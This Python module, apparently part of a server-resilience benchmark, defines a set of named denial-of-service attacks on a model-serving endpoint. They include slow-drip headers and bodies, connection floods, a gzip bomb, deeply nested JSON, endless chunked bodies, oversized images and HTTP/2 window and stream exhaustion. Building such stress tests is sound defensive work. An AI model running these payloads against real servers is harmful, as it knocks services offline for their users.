"""Attacks: what a hostile client does on one of its connections, by name. A further one is one more entry."""

from __future__ import annotations

import gzip
from typing import TYPE_CHECKING, NamedTuple

from bench.lab.hostile_files import many_scans, thin_png
from bench.lab.http2_frames import get, opening, silent_call

if TYPE_CHECKING:
    from collections.abc import Callable, Iterator

    Parts = Iterator[tuple[bytes, float]]

DRIP_S = 1.0
"""Between two bytes of one that drips."""
PAGES = 16
STREAMS = 64
MEBI = 1024 * 1024


class Attack(NamedTuple):
    """`parts` gives what is sent, each with the pause behind it in seconds; then the server's end is waited for."""

    what: str
    connections: int
    parts: Callable[[], Parts]
    comes_again: bool = True
    """Whether a connection that has ended is made anew."""
    reads_nothing: bool = False
    by_grpc: bool = False
    """Whether it is for gRPC's port, and the honest client beside it calls there."""
    settling_s: float = 0
    """How long the server may take for what cannot be told from honest requests: it answers those as well."""


def _idle() -> Parts:
    return iter(())


def _head() -> Parts:
    yield b"POST /predict HTTP/1.1\r\nHost: a\r\nX-Long: ", DRIP_S
    while True:
        yield b"a", DRIP_S


def _body() -> Parts:
    yield b"POST /predict HTTP/1.1\r\nHost: a\r\nContent-Length: 100000\r\n\r\n\xff\xd8", DRIP_S
    while True:
        yield b"a", DRIP_S


def _unread() -> Parts:
    yield b"GET / HTTP/1.1\r\nHost: a\r\n\r\n" * PAGES, 0


def _post(path: str, body: bytes, headers: str = "") -> bytes:
    return f"POST {path} HTTP/1.1\r\nHost: a\r\n{headers}Content-Length: {len(body)}\r\n\r\n".encode() + body


def _again(request: Callable[[], bytes]) -> Callable[[], Parts]:
    def parts() -> Parts:
        sent = request()
        while True:
            yield sent, 0.1

    return parts


def _bomb() -> bytes:
    body = gzip.compress(b'{"instances": [' + b"1.0," * (24 * MEBI) + b"1.0]}", 9)
    return _post("/v1/models/mobilenet:predict", body, "Content-Encoding: gzip\r\n")


def _brackets() -> bytes:
    return _post("/v1/models/mobilenet:predict", b'{"instances": ' + b"[" * 900 + b"1" + b"]" * 900 + b"}")


def _large() -> Parts:
    yield b"POST /v1/models/mobilenet:predict HTTP/1.1\r\nHost: a\r\nTransfer-Encoding: chunked\r\n\r\n", 0
    while True:
        yield b"100000\r\n" + b" " * MEBI + b"\r\n", 0


def _streams() -> Parts:
    calls = (silent_call(2 * number + 1, "/tensorflow.serving.PredictionService/Predict") for number in range(STREAMS))
    yield opening() + b"".join(calls), 0


def _window() -> Parts:
    yield opening(initial_window_size=0) + b"".join(get(2 * number + 1, "/") for number in range(STREAMS)), 0


ATTACKS = {
    "idle": Attack("connections that say nothing", 2000, _idle, comes_again=False),
    "heads": Attack("heads that come a byte a second", 1000, _head),
    "bodies": Attack("bodies that come a byte a second", 1000, _body),
    "unread": Attack("answers that nobody reads", 1000, _unread, reads_nothing=True, settling_s=15),
    "images": Attack("PNGs of 1 x 4,000,000 pixels", 4, _again(lambda: _post("/predict", thin_png(1, 4_000_000)))),
    "scans": Attack("JPEGs of 3,000 scans", 4, _again(lambda: _post("/predict", many_scans(2000, 3000)))),
    "gzip": Attack("JSON that inflates to 100 MB", 2, _again(_bomb)),
    "brackets": Attack("JSON of 900 brackets", 4, _again(_brackets)),
    "large": Attack("REST bodies without an end", 4, _large),
    "window": Attack("connections by HTTP/2 that let 64 answers wait", 50, _window),
    "streams": Attack("connections with 64 silent calls by gRPC", 8, _streams, by_grpc=True),
}
